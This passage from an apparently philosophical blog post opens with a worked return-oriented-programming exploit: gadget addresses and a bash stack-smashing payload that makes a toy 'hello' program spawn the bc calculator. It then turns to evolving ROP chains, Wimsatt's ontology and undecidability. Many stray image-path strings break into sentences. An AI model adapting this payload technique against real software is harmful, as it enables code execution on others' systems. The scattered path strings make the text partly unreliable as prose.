This is padding.will do. Next, we need to increment EAX up to 11. This can be done with eleven applications of the mercifully simple gadget

0x0807c0f9 :
  inc eax

Next, we need to load the ECX register with a pointer to a NULL pointer (since we're going to be lazy, and omit any command line parameters, including the name of the program), and load the EBX register with a pointer to the string "bc". A full path would be preferable, but it would take more time to craft a chain that constructed the string"/usr/bin/bc", and it's easier to just copy the bc binary to the current directory, first. And as luck would have it, the string "bc" is already mapped to the .rodata section of memory by the binary, like the letters of a ransom note, at the end of the string "libc", which sits at address 0x080be4dc. Incrementing that address by 2 gives us a pointer to the null-terminated string "bc\x00", which is just what we need.

0x0806ecd2 :
  pop ecx
  pop ebx
0x0804bad4 : pointer to NULL

0x080be4dc : pointer to "bc\x00"

Finally, we need a pointer to an "int 0x80" instruction, to actually perform the syscall:

0x0806f60f :
  int 0x80

Now we just need to put it all together.

P=1234567890123456789012  # smash the stack
P=${P}$'\x23\xcf\x05\x08' # zero edx and eax
P=${P}'This is padding.'  # thatwas padding
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eaxP=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xf9\xc0\x07\x08' # increment eax
P=${P}$'\xd2\xec\x06\x08' # load parameters
P=${P}$'\xd4\xba\x04\x08' # pointer to NULL
P=${P}$'\xde\xe4\x0b\x08' # pointer to "bc"
P=${P}$'\x0f\xf6\x06\x08' # system call

./hello "$P"

And just like that, we're in the calculator:

This program is going to greet you.
Hello, 1234567890123456789012#This is padding.
bc 1.07.1
Copyright 1991-1994, 1997, 1998, 2000, 2004, 2006,
2008, 2012-2017
Free Software Foundation, Inc.
This is free software with ABSOLUTELY NO WARRANTY.
For details type `warranty'.
5 + 7For a more thorough, hands-on introduction to return-oriented programming, Barrebas has an excellent tutorial available, complete with a VM in which to hone your craft. The landmark academic study of this technique (which had already established itself in hacking practice) is Hovav Shacham's "The Geometry of Innocent Flesh on the Bone: Return-into-libc without Function Calls (on the x86)".

Invisigoth was Right

Dominic Fox's contribution to this thread, in the post Digital Goop, concludes with an intriguing analogy on the subject of ontological slime and its interaction with computing:

The way forward may be to see slime itself as already code-bearing, rather as one imagines fragments of RNAfloating and combining in a primordial soup. Suppose we think of programming as refining slime, making code out of its codes, sifting and synthesizing.

A particularly fascinating suggestion here is thinking of the irregular "slime" that subsists between the charted ontological levels of software, rich in "hidden structures", may coalesce spontaneously into programmatic forms... In the case of the primordial soup, all that was needed to coax complexity and coherence out of the ooze was selection. Could the same be said of all this"artificial slime"?


If you're already familiar with my current research obsessions, then you would expect my answer to this question to be an unhesitating "yes". And you would be correct. As I've mentioned on this blog already, my grad research in computer science was more or less centred on this question, and involved some extensive experimentation in the literal evolution of ROP chains out of an amorphous"primoridal ooze" of gadgetry. The documentation and code for that project -- Urschleim in Silicon: Return Oriented Program Evolution with ROPER -- can be found here. In the course of that project, I constructed a system to foster the evolution of ROP-chain populations, and bred them to perform various, often subtle, tasks -- classifying the Iris Data Set, for example, or playing a game of Snake. The capacity for the evolutionary process to discover and exploit structures in the environment, and invent control flow patterns that looked nothing like the hand-crafted ROP-chain shown above (which bears a certain stylistic signature that makes it relatively easy to detect by an advanced intrusion detection system) was particularly remarkable. The yeggogological creativity of evolution was on full display.

The light shed by William Wimsatt's ontological framework, however, is altogether new to me. It was only while writing up this (rather sprawling and meandering) blog post that, at Conflated Automatons' prompting, I read his magnificent essay, "The Ontology of Complex Systems: Levels of Organization, Perspectives, and Causal Thickets". I've only scratched the surface of that text here, and owe it to myself to return to it in a future post.

One of the most intriguing suggestions that Wimsatt makes -- and one that might even be testable in the context of evolutionary computation -- is that the coherence of ontological levels is itself an effect of broadly Darwinian selection. The tendency of reality to coalesce into "ontological levels", he claims, >is analogous to a kind of 'fitness maximization' claim for ontology.

This couples nicely with the strong, but never quite justified, hunch that guided me through my Master'sresearch: that evolutionary search processes are particularly well suited to feeling out "weird machine", hidden deep in computational thickets, with their pregnant causes mixed, and sculpting codefrom those dark materials.


On the Proliferation of Bugs and the Halting Problem

Though it was never my intention to say so, the flow of this post might be taken to suggest that there's some sort of entailment relation between, on the one hand, Turing and Rice's undecidability theorems, and, on the other, the proliferation of bugs, leaks, and weird machines in actual software.

Strictly speaking, there is no such entailment. What these undecidability theorems do tell us is that there cannot be, in principle, any God's-eye-view from which we could survey the space of general computation, and detect any leaks or misspecifications in advance. (Whether a "Halting Oracle" could, indeed, provide the foundation for such a vantage point, I'm unsure -- it certainly shouldn't be taken for granted that it would -- but its impossibility certainly implies that of an even more godlike "Rice Oracle", that would be able to tell us for any program pand property P, whether or not P(p).) The proliferation of bugs and leaks is, itself, a contingent matter -- nothing demandsthat it take place -- but there is no silver bullet to stop it, once and for all.

In the absence of such Oracles, the verification of software remains possible, on a case by case basis, but itbecomes a much more complicated affair, to carried out heterogeneous instruments, imperfectly compensating for one another's blind spots.Dom has more to say on this particular topic, and some of themisunderstandings itfrequently invites, over at The Last Instance.